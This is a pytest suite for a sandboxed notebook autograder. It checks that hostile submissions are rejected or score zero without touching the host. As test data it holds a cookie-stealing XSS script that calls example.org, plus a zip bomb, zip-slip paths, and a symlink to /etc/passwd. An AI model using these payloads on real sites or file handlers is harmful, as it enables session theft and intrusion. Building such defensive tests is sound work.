"""Strangers' programs and files: each attack ends in the stated status and score, this machine and the next are well.

All attacks are graded in one run, as a class would be, with honest students between them.
"""

import io
import json
import os
import socket
import sqlite3
import zipfile
from pathlib import Path

import pytest

from course_lib.instructor import cage, sandbox
from course_lib.instructor.cage import tree
from course_lib.instructor.session import Ended, Session
from tests.instructor.attacks import ATTACKS, TOP_LEVEL, USES_TABLE
from tests.instructor.handed_in import FILE, RIGHT, SMALL, grade, hand_in, notebook, release


def _problem() -> str:
    try:
        sandbox.probe()
    except sandbox.NoSandbox as problem:
        return str(problem)
    return ""


PROBLEM = _problem()
if PROBLEM and os.environ.get("CI") == "true":
    pytest.fail(f"CI must run the hostile suite: {PROBLEM}", pytrace=False)
pytestmark = pytest.mark.skipif(bool(PROBLEM), reason=f"the hostile suite needs bubblewrap: {PROBLEM}")

OWN_HARM = ("patch-everything", "patch-worker", "lies")  # who breaks their own Python may lose their own next answer
HONEST = ("00-honest", "flood-pipe-honest", "kill-all-honest", "zz-honest")
SCRIPT = "<script>document.location='https://example.org/?'+document.cookie</script>"


def zipped(*members, **options) -> bytes:
    """A zip of (name or ZipInfo, content)."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, **options) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return file.getvalue()


def link(name: str, target: str):
    info = zipfile.ZipInfo(name)
    info.external_attr = 0o120777 << 16
    return info, target


def encrypted() -> bytes:
    """A zip whose only member says that it is encrypted."""
    content = bytearray(zipped((FILE, "{}")))
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        content[content.find(signature) + offset] |= 1
    return bytes(content)


def bomb() -> bytes:
    """2 GB of zeros, which claims to be a small notebook."""
    inner = zipped((FILE, bytes(200_000_000)))
    return inner.replace((200_000_000).to_bytes(4, "little"), (1000).to_bytes(4, "little"))


FILES = {  # name: (file name, content, part of the reason)
    "malformed": (FILE, "{ not json", "not JSON"),
    "empty": (FILE, "", "not JSON"),
    "not-utf8": (FILE, b"\xff\xfe{}", "not UTF-8"),
    "deep-json": (FILE, "[" * 1_000_000, "nested too deeply"),
    "no-cells": (FILE, '{"nbformat": 4, "cells": 3}', "no cells"),
    "nbformat-3": (FILE, '{"nbformat": 3, "worksheets": [{"cells": []}]}', "format 3"),
    "nbformat-99": (FILE, '{"nbformat": 99, "cells": []}', "format 99"),
    "nbformat-text": (FILE, '{"nbformat": "4", "cells": []}', "format 4"),
    "strange-cell": (FILE, '{"nbformat": 4, "cells": [{"cell_type": "code", "source": {"x": 1}}]}', "not text"),
    "number-cell": (FILE, '{"nbformat": 4, "cells": [7]}', "not a cell"),
    "many-cells": (FILE, json.dumps({"nbformat": 4, "cells": [{"cell_type": "raw"}] * 5000}), "5,000 cells"),
    "hundred-mb": (FILE, b" " * 100_000_000, "larger than 10 MB"),
    "another-notebook": (FILE, '{"nbformat": 4, "cells": []}', "nothing in it"),
    "no-notebook": ("essay.docx", b"PK", "not a notebook"),
    "zip-bomb": ("work.zip", bomb, "member that cannot be read"),
    "zip-honest-bomb": ("work.zip", lambda: zipped((FILE, bytes(200_000_000))), "larger than 10 MB"),
    "zip-slip": ("work.zip", zipped((f"../../grades/results/{FILE}", "{}")), "points outside"),
    "zip-absolute": ("work.zip", zipped((f"/etc/{FILE}", "{}")), "points outside"),
    "zip-drive": ("work.zip", zipped((f"C:\\{FILE}", "{}")), "points outside"),
    "zip-link": ("work.zip", lambda: zipped(link(FILE, "/etc/passwd")), "a link"),
    "zip-encrypted": ("work.zip", encrypted(), "needs a password"),
    "zip-broken": ("work.zip", b"PK\x03\x04 and no more", "not a readable zip"),
    "zip-crowded": ("work.zip", lambda: zipped(*((f"{n}.txt", "") for n in range(20_001))), "20,000 members"),
    "zip-in-zip": ("work.zip", zipped(("b.zip", zipped((("c.zip"), zipped((FILE, "{}")))))), "nested more than"),
}


@pytest.fixture(scope="module")
def host(tmp_path_factory) -> Path:
    return tmp_path_factory.mktemp("host")


@pytest.fixture(scope="module")
def listener():
    server = socket.create_server(("127.0.0.1", 0))
    server.setblocking(False)
    with server:
        yield server


@pytest.fixture(scope="module")
def graded(host, listener):
    """The class, graded; results by student."""
    os.environ["A_SECRET"] = "mine"
    release(host / "out", written=True)
    (host / "canary").write_text("alive")
    (host / "neighbour").mkdir()
    (host / "neighbour" / FILE).write_text("a neighbour's answers")
    port = str(listener.getsockname()[1])
    for name, (body, *_) in ATTACKS.items():
        body = body.replace("HOST", str(host)).replace("PORT", port)
        attack = {**RIGHT, "3.1": f"def standardise(train, test):{body}"}
        hand_in(host / "in", name, notebook(attack, written=SCRIPT))
    for name, (text, *_) in TOP_LEVEL.items():
        hand_in(host / "in", name, notebook({**RIGHT, "3.1": USES_TABLE}, before=[text], written=""))
    for name, (file, content, _) in FILES.items():
        hand_in(host / "in", name, content() if callable(content) else content, file)
    for name in HONEST:
        hand_in(host / "in", name, notebook(RIGHT, written="Because."))
    hand_in(host / "in", "link", "", "nothing.txt")
    (host / "in" / "link" / FILE).symlink_to(host / "neighbour" / FILE)
    (host / "in" / "fifo").mkdir()
    os.mkfifo(host / "in" / "fifo" / FILE)
    (host / "in" / "linked-folder").symlink_to(host / "neighbour")
    before = set(tree(os.getpid()))
    outcome = grade(host, limits=SMALL)
    outcome.left = set(tree(os.getpid())) - before
    del os.environ["A_SECRET"]
    return outcome


def item(graded, student, id):
    return next(one for one in graded.results[student].items if one.id == id)


@pytest.mark.parametrize("name", [*ATTACKS, *TOP_LEVEL])
def test_an_attack_scores_nothing_and_spoils_nothing(graded, name):
    """The attacked item has no point and its reason; the student's other answer keeps its own."""
    _, status, reasons = (ATTACKS | TOP_LEVEL)[name]
    attacked, other = item(graded, name, "3.1"), item(graded, name, "3.2")
    assert (attacked.status, attacked.score) == (status, 0.0), attacked
    assert attacked.diagnosis in reasons.split(), attacked
    if name not in OWN_HARM:
        assert (other.status, other.score) == ("right", 2.0), other


@pytest.mark.parametrize("name", HONEST)
def test_honest_students_among_them_get_all_points(graded, name):
    assert [item(graded, name, id).score for id in ("3.1", "3.2")] == [2.0, 2.0]
    assert graded.results[name].status == "needs-hand"  # the written answer is still to be read
    assert graded.results[name].total is None


@pytest.mark.parametrize("name", [*FILES, "link", "fifo"])
def test_a_hostile_file_is_rejected_with_its_reason(graded, name):
    result = graded.results[name]
    assert (result.status, result.total, result.items) == ("rejected", None, ())
    assert FILES.get(name, ("", "", "a link" if name == "link" else "not a regular file"))[2] in result.why, result.why


def test_a_linked_folder_is_not_followed(graded):
    assert (graded.results["linked-folder"].status, graded.results["linked-folder"].total) == ("rejected", None)
    assert "a link" in graded.results["linked-folder"].why


@pytest.mark.parametrize(("name", "said"), [("network", "reached: []"), ("read-hidden", "found: []"),
                                            ("write-marks", "changed: []")])  # fmt: skip
def test_what_it_tried_to_reach_was_not_there(graded, name, said):
    assert said in item(graded, name, "3.1").message


def test_this_machine_is_as_it_was(graded, host, listener):
    assert (host / "canary").read_text() == "alive"
    assert (host / "neighbour" / FILE).read_text() == "a neighbour's answers"
    assert not list(host.rglob("evil*"))
    with pytest.raises(BlockingIOError):  # nobody has knocked
        listener.accept()


def test_no_process_is_left(graded):
    """The pool's own resource tracker may stay; nothing of a sandbox does."""
    commands = [Path(f"/proc/{pid}/cmdline").read_bytes() for pid in graded.left if Path(f"/proc/{pid}").exists()]
    assert not [command for command in commands if b"worker.py" in command or b"bwrap" in command]


def test_the_gradebook_has_only_the_scores_that_were_given(graded, host):
    with sqlite3.connect(host / "grades" / "gradebook.db") as book:
        query = ("SELECT s.student_id, SUM(g.auto_score) FROM grade g "
                 "JOIN submitted_notebook n ON g.notebook_id = n.id "
                 "JOIN submitted_assignment s ON n.assignment_id = s.id GROUP BY s.student_id")
        marks = dict(book.execute(query))
    assert {name: marks[name] for name in HONEST} == dict.fromkeys(HONEST, 4.0)
    assert {marks[name] for name in ATTACKS if name not in OWN_HARM} == {2.0}
    assert not set(FILES) & set(marks)


def test_what_the_kernel_kills_for_memory_is_told_as_memory(monkeypatch):
    """Seen from the pipe alone, it would be a crash; the watcher is made too slow to see it."""
    monkeypatch.setattr(cage, "EVERY", 60.0)
    session = Session(SMALL)
    try:
        if session.cage.group is None:
            pytest.skip("no control group can be made here")
        source = "def hoard():\n    return bytearray(b'x') * (900 << 20)"
        session.notebook([{"id": "a", "own": True, "source": source}], {"hoard": ([], "x")})
        with pytest.raises(Ended, match="memory"):
            session.call("hoard", ())
    finally:
        session.close()


def test_a_script_in_a_written_answer_is_text(graded, host):
    """It is kept as it came, for whoever shows it to escape; the CSV for reading has it as a harmless cell."""
    assert item(graded, "network", "w1").source == SCRIPT
    assert item(graded, "network", "w1").status == "needs-hand"
    assert SCRIPT in (host / "grades" / "written.csv").read_text(encoding="utf-8-sig").replace('""', '"')


def test_a_sandbox_that_cannot_start_is_refused(graded, host, monkeypatch):
    """No silent way around: without bwrap nothing is run, and nothing is marked."""
    monkeypatch.setenv("PATH", "")
    with pytest.raises(sandbox.NoSandbox, match=r"not installed.*apt-get install bubblewrap"):
        grade(host)


def test_marks_that_a_submission_could_read_are_refused(tmp_path):
    with pytest.raises(sandbox.NoSandbox, match="which submissions can read"):
        sandbox.keep_apart([sandbox.COURSE / "checks"])
    sandbox.keep_apart([tmp_path])
